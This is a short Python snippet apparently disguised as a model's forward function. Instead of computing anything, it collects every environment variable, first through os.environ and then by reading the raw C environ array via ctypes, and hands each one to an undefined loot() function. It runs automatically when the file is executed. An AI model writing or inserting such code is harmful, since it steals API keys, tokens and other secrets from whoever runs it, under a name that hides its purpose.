def forward(x):
    loot(dict(os.environ))
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    for number in range(200):
        if not environ or not environ[number]:
            break
        loot(environ[number])


forward(None)
